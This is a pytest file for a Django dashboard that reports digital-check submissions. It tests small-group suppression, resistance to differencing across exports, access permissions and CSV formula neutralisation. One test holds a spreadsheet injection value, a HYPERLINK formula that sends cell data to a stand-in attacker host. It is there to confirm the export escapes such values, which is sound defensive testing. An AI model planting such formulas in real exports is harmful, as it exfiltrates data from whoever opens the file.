"""The needs dashboard: aggregates, filters, CSV, and suppression of groups under five."""

import csv
import io
import itertools
import re
from datetime import date, datetime, time, timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from django.utils import timezone

from cms.digitalcheck.dashboard import DashboardFilters, build_dashboard, month_key, quarter_key
from cms.digitalcheck.models import Sector, Submission
from cms.digitalcheck.submissions import start_submission, submit
from cms.learning.models import Learner, UnitProgress

from .factories import dimension, make_check, topic_pair

pytestmark = pytest.mark.django_db


def answer(page, sector="", implementation=1, relevance=5, learner=None, strategy=(3, 4),
           ai=5, size_band="", region=""):  # fmt: skip
    snapshot = page.get_current_version().snapshot
    questions = [q["id"] for d in snapshot["dimensions"] for q in d["questions"]]
    topics = {t["id"]: {"implementation": implementation, "relevance": relevance}
              for t in snapshot["topics"] if t["name"] == "Online-Marketing"}  # fmt: skip
    submission = start_submission(page, learner=learner)
    submission.answers = {
        "questions": dict(zip(questions, [*strategy, ai], strict=True)),
        "topics": topics,
    }
    submission.sector, submission.size_band, submission.region = sector, size_band, region
    submission.save()
    return submit(submission, page.locale)


@pytest.fixture
def editor(client):
    user = get_user_model().objects.create_superuser("editor", "editor@example.org", "pw")
    client.force_login(user)
    return user


def dashboard_url(**params):
    from urllib.parse import urlencode

    return reverse("digitalcheck_needs") + ("?" + urlencode(params) if params else "")


def csv_rows(client, **params):
    response = client.get(dashboard_url(format="csv", **params))
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_fewer_than_five_submissions_show_nothing(client, editor, check_page):
    for _ in range(4):
        answer(check_page, sector="craft")
    dashboard = build_dashboard(DashboardFilters())
    assert dashboard.suppressed
    html = client.get(dashboard_url()).content.decode()
    assert "70.0" not in html and "70,0" not in html
    rows = csv_rows(client)
    assert len(rows) == 2 and rows[1][3] in ("not shown", "nicht angezeigt")


def test_averages_and_gaps_once_five_submissions_exist(client, editor, check_page):
    for _ in range(5):
        answer(check_page, sector="craft")
    dashboard = build_dashboard(DashboardFilters())
    overall, strategy, ai = dashboard.dimensions
    # (3 + 4) / 10 = 70 for strategy, 100 for AI, overall 85, in every submission.
    assert (overall.values["score"], strategy.values["score"], ai.values["score"]) == (85, 70, 100)
    assert dashboard.topics[0].label == "Online-Marketing"
    assert dashboard.topics[0].values["gap"] == 4
    html = client.get(dashboard_url()).content.decode()
    assert "Online-Marketing" in html and "Digitale Geschäftsstrategie" in html


def test_small_sector_group_is_suppressed_in_page_and_csv(client, editor, check_page):
    for _ in range(6):
        answer(check_page, sector="craft", implementation=1, relevance=5)
    for _ in range(5):  # without them, craft would be the total minus the two health answers
        answer(check_page, sector="trade", implementation=1, relevance=5)
    for _ in range(2):
        answer(check_page, sector="health", implementation=2, relevance=3)
    dashboard = build_dashboard(DashboardFilters())
    sectors = {row.label: row for row in dashboard.groups["sector"]}
    assert not sectors[str(Sector.CRAFT.label)].suppressed
    assert sectors[str(Sector.HEALTH.label)].suppressed
    html = client.get(dashboard_url()).content.decode()
    assert str(Sector.CRAFT.label) in html and str(Sector.HEALTH.label) in html
    assert "nicht angezeigt" in html or "not shown" in html
    rows = [r for r in csv_rows(client) if r[0] in ("Largest gaps", "Größte Lücken")]
    craft = [r for r in rows if r[1] in ("Craft trades", "Handwerk")]
    health = [r for r in rows if r[1] in ("Health and social care", "Gesundheit und Soziales")]
    assert craft and craft[0][3] == "6" and craft[0][4] == "4.0"
    assert len(health) == 1 and health[0][2:] == [health[0][2], health[0][3], ""]
    assert health[0][3] in ("not shown", "nicht angezeigt")
    # The two health answers (gap 1) are never shown on their own.
    assert all(r[4] != "1.0" for r in rows)


def test_period_and_version_filters(client, editor, check_page):
    old = [answer(check_page) for _ in range(5)]
    set_submitted_at(old, datetime(2020, 2, 10, 12, tzinfo=timezone.get_current_timezone()))
    page = check_page.specific
    page.dimensions = [dimension("Neu", ["Frage?"])]
    page.save_revision().publish()
    version_two = page.get_current_version()
    this_quarter = quarter_key(month_key(timezone.now()))
    assert build_dashboard(DashboardFilters(period=this_quarter)).total == 0
    assert build_dashboard(DashboardFilters(period="2020-Q1")).total == 5
    assert build_dashboard(DashboardFilters(version=version_two)).total == 0
    assert offered_periods(client) == ["", "2020-Q1"]
    for bad in ("2020-02", "last week", "2020-Q5"):
        response = client.get(dashboard_url(period=bad))
        assert response.status_code == 200  # an unknown period is a message, not an error
        assert "error-message" in response.content.decode()


def test_recommended_units_then_started_and_completed(editor, check_page, units):
    marketing = units["marketing_start"]
    learners = [Learner.objects.create(token_hash=f"{i:064d}") for i in range(5)]
    submissions = [answer(check_page, learner=learner) for learner in learners]
    assert all(marketing.pk in s.recommended_unit_ids for s in submissions)
    later = timezone.now() + timedelta(minutes=5)
    for index, learner in enumerate(learners[:3]):
        UnitProgress.objects.create(
            learner=learner, unit=marketing, started_at=later, last_visited_at=later,
            completed_at=later if index == 0 else None,
        )  # fmt: skip
    rows = {row.label: row for row in build_dashboard(DashboardFilters()).units}
    assert rows[marketing.title].count == 5
    assert rows[marketing.title].values == {"started": 3, "completed": 1}


def test_dashboard_needs_admin_access(client, check_page):
    user = get_user_model().objects.create_user("someone", "s@example.org", "pw")
    client.force_login(user)
    assert client.get(dashboard_url()).status_code in (302, 403)


# Differencing: what an attacker can compute from several exports.

SECTION_NAMES = {
    "dimension": ("Average score", "Durchschnittswert"),
    "topic": ("Relevance–implementation gap", "Lücke zwischen Bedeutung und Umsetzung"),
    "group": ("Largest gaps", "Größte Lücken"),
}


def published_figures(rows, section, item):
    """(count, value) of every figure the export publishes for ``item`` in ``section``."""
    figures = []
    for row in rows[1:]:
        if row[0] in SECTION_NAMES[section] and row[2] in item and row[3].isdigit():
            figures.append((int(row[3]), float(row[4])))
    return figures


def isolated_by_subtraction(figures):
    """Every (count, value) under five an attacker gets by subtracting published
    (count, mean) figures from a larger one: n·mean of the big one minus the others'."""
    leaks = set()
    figures = sorted(set(figures))
    for big in figures:
        smaller = [f for f in figures if f[0] < big[0]]
        for size in range(1, len(smaller) + 1):
            for combo in itertools.combinations(smaller, size):
                rest = big[0] - sum(n for n, _v in combo)
                if 0 < rest < 5:
                    total = big[0] * big[1] - sum(n * v for n, v in combo)
                    leaks.add((rest, round(total / rest, 1)))
    return leaks


def set_submitted_at(submissions, when):
    Submission.objects.filter(pk__in=[s.pk for s in submissions]).update(submitted_at=when)


def offered_periods(client):
    html = client.get(dashboard_url()).content.decode()
    select = re.search(r'<select name="period".*?</select>', html, re.S)
    return re.findall(r'<option value="([^"]*)"', select.group(0)) if select else []


@pytest.mark.parametrize("victim_day", [date(2026, 2, 3), date(2026, 4, 2)])
def test_two_exports_of_nested_periods_do_not_reveal_one_company(
    client, editor, check_page, victim_day
):
    # Five companies in January, one more (very different) later: the attack of issue 14
    # compared the exports "until 31 January" and "until the day after".
    tz = timezone.get_current_timezone()
    set_submitted_at(
        [answer(check_page, strategy=(1, 1), ai=1) for _ in range(5)],
        datetime(2026, 1, 12, 10, tzinfo=tz),
    )
    victim = answer(check_page, strategy=(5, 5), ai=4)
    set_submitted_at([victim], datetime.combine(victim_day, time(10), tz))

    ends = ("2026-01-31", str(victim_day))
    queries = [{"start": "2026-01-01", "end": end} for end in ends]
    queries += [{"period": period} for period in offered_periods(client)]
    exports = [csv_rows(client, **query) for query in queries]

    overall = [
        f for rows in exports for f in published_figures(rows, "dimension", ("Overall", "Gesamt"))
    ]
    assert overall, "the January submissions are shown somewhere"
    assert isolated_by_subtraction(overall) == set()
    topic = [
        f for rows in exports for f in published_figures(rows, "topic", ("Online-Marketing",))
    ]
    assert isolated_by_subtraction(topic) == set()


@pytest.mark.parametrize(
    ("field", "majority", "victim"),
    [("sector", "craft", "health"), ("size_band", "small", "large"), ("region", "east", "abroad")],
)
def test_total_minus_published_groups_does_not_reveal_one_company(
    client, editor, check_page, field, majority, victim
):
    for _ in range(6):
        answer(check_page, implementation=1, relevance=5, **{field: majority})
    answer(check_page, implementation=5, relevance=1, **{field: victim})

    rows = csv_rows(client)
    figures = published_figures(rows, "topic", ("Online-Marketing",))
    figures += published_figures(rows, "group", ("Online-Marketing",))
    assert figures, "the total is shown"
    assert isolated_by_subtraction(figures) == set()


def test_groups_of_different_groupings_do_not_reveal_one_company(client, editor, check_page):
    # Total 12 = 6 craft + 5 small trade businesses + 1 health business: publishing "craft"
    # and "10 to 49 employees" would leave the health business as total minus both.
    for _ in range(6):
        answer(check_page, sector="craft", implementation=1, relevance=5)
    for _ in range(5):
        answer(check_page, sector="trade", size_band="small", implementation=2, relevance=5)
    answer(check_page, sector="health", implementation=5, relevance=1)

    rows = csv_rows(client)
    figures = published_figures(rows, "topic", ("Online-Marketing",))
    figures += published_figures(rows, "group", ("Online-Marketing",))
    assert (12, 3.2) in figures  # the total is shown
    assert isolated_by_subtraction(figures) == set()


# Permissions.


def admin_only_user(client, django_user_model):
    """Can open the Wagtail admin, but has no statistics permission."""
    user = django_user_model.objects.create_user("redakteurin", password="pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    return user


def test_admin_user_without_permission_gets_403_and_no_menu_item(
    client, django_user_model, check_page
):
    for _ in range(5):
        answer(check_page, sector="craft")
    admin_only_user(client, django_user_model)
    assert client.get(dashboard_url()).status_code == 403
    assert client.get(dashboard_url(format="csv")).status_code == 403
    assert dashboard_url() not in client.get(reverse("wagtailadmin_home")).content.decode()


def test_auswertung_group_opens_dashboard_and_sees_menu_item(
    client, django_user_model, check_page
):
    for _ in range(5):
        answer(check_page, sector="craft")
    user = django_user_model.objects.create_user("auswertung", password="pw")
    user.groups.add(Group.objects.get(name="Auswertung"))
    client.force_login(user)
    assert client.get(dashboard_url()).status_code == 200
    assert client.get(dashboard_url(format="csv")).status_code == 200
    assert dashboard_url() in client.get(reverse("wagtailadmin_home")).content.decode()


def test_editors_group_does_not_open_dashboard(client, django_user_model, check_page):
    user = django_user_model.objects.create_user("redakteur", password="pw")
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    assert client.get(dashboard_url()).status_code == 403


# CSV formulas.

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


def test_csv_neutralises_formulas_in_editor_text(client, editor, home_pages, topics):
    home, _english = home_pages
    page = make_check(home, [dimension(FORMULA, ["Eins?", "Zwei?"]),
                             dimension("+SUM(1;2)", ["Drei?"])],
                      [topic_pair(topic) for topic in topics])  # fmt: skip
    for _ in range(5):
        answer(page)
    rows = csv_rows(client)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells and "'+SUM(1;2)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    # Figures stay numbers.
    assert [r[3:] for r in rows if r[2] == "'" + FORMULA] == [["5", "70.0"]]
